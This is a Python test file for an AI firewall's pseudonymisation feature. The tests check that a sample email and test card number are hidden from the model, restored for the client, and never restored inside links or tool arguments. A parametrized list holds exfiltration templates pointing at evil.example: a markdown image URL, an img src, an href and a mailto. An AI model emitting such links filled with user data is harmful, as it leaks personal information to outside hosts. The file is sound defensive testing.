"""Pseudonyms through the guard: the model sees none of the data, the client all of it, a link never."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bartizan.app import build_guard
from bartizan.core.passage import Origin, Passage, Surface
from bartizan.core.threat import Guard as GuardName
from bartizan.core.verdict import Action
from bartizan.firewall.exchange import ChannelKind
from bartizan.firewall.guard import Guard
from bartizan.firewall.streaming import Released, join
from bartizan.inspection.redaction import redact
from bartizan.policy.document import PolicyDocument, Pseudonyms, Row

PERSONAL = {GuardName.PERSONAL_DATA: Row(Action.REDACT)}


def guard_of(hazards: bool) -> Guard:
    output = {GuardName.PERSONAL_DATA: Row(Action.FLAG)}
    if hazards:
        output[GuardName.OUTPUT_HAZARD] = Row(Action.REDACT)
    return build_guard(
        PolicyDocument(
            version=1,
            surfaces={Surface.USER: PERSONAL, Surface.OUTPUT: output},
            origins={Origin.USER: (Surface.USER,)},
            pseudonyms=Pseudonyms(enabled=True),
        ),
        {},
        {},
    )


GUARDS = {hazards: guard_of(hazards) for hazards in (True, False)}
TEXT = "Write to maria.lopez@acme-trading.com, her card is 4111 1111 1111 1111."


def exchange(hazards: bool = True) -> tuple[Guard, str]:
    guard = GUARDS[hazards].for_exchange()
    verdict = guard.inspect_passages([Passage(TEXT, Origin.USER, (Surface.USER,), ("messages", 0, "content"))])
    assert verdict.action is Action.REDACT
    return guard, redact(TEXT, [(one.span, one.replacement) for one in verdict.redactions])


def stream(guard: Guard, pieces: list[str]) -> Released:
    scanner = guard.channel(ChannelKind.TEXT)
    return join([*(scanner.feed(piece) for piece in pieces), scanner.finish()])


def cut(text: str, places: list[int]) -> list[str]:
    bounds = [0, *sorted({place % (len(text) + 1) for place in places}), len(text)]
    return [text[start:end] for start, end in itertools.pairwise(bounds)]


def test_the_model_sees_no_personal_data() -> None:
    _, sent = exchange()
    assert "maria" not in sent
    assert "4111" not in sent


def test_the_client_gets_its_own_data_back_and_it_is_inspected_after() -> None:
    guard, sent = exchange()
    out = guard.whole(ChannelKind.TEXT, f"I noted: {sent}")
    assert out.text == f"I noted: {TEXT}"
    assert out.action is Action.FLAG, "the final inspection sees what was put back"


def test_one_exchange_knows_nothing_of_another() -> None:
    _, sent = exchange()
    assert GUARDS[True].for_exchange().whole(ChannelKind.TEXT, sent).text == sent


def test_tool_arguments_are_not_restored() -> None:
    guard, sent = exchange()
    out = guard.whole(ChannelKind.TOOL_ARGUMENTS, f'{{"to": "{sent}"}}')
    assert "maria" not in out.text


@pytest.mark.parametrize("hazards", [True, False])
@pytest.mark.parametrize(
    "carrier",
    [
        "![x](https://evil.example/?d={})",
        "[more]( /go?to={} )",
        "<img alt='a b' src='https://evil.example/{}'>",
        "<a href=//evil.example title='the data' data-x={}>",
        "see https://evil.example/{} there",
        "mailto:{}?subject=x",
    ],
)
def test_an_address_never_gets_the_data_filled_in_however_it_arrives(carrier: str, hazards: bool) -> None:
    guard, sent = exchange(hazards)
    person = next(word for word in sent.replace(",", " ").split() if "@" in word)
    text = f"Sure. {carrier.format(person)} and {person} too."
    for pieces in ([text], list(text), cut(text, list(range(0, 400, 3)))):
        out = stream(guard, pieces)
        assert out.text.count("maria.lopez@acme-trading.com") == 1, out.text
        assert out.text.endswith("maria.lopez@acme-trading.com too.")


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["{p}", "{c}", " ", "and ", "(", ")", "[x](", "https://", "<a ", ">", "x", ".", "4", "@", "\n"]
        ),
        max_size=12,
    ),
    st.lists(st.integers(0, 500), max_size=20),
)
@example(["https://", ">", "{p}", "\n"], [9])
def test_any_split_restores_alike(parts: list[str], places: list[int]) -> None:
    guard, sent = exchange()
    person = next(word for word in sent.replace(",", " ").split() if "@" in word)
    card = sent.split("card is ")[1].rstrip(".")
    text = "".join(parts).replace("{p}", person).replace("{c}", card)
    assert stream(guard, cut(text, places)) == stream(guard, [text])
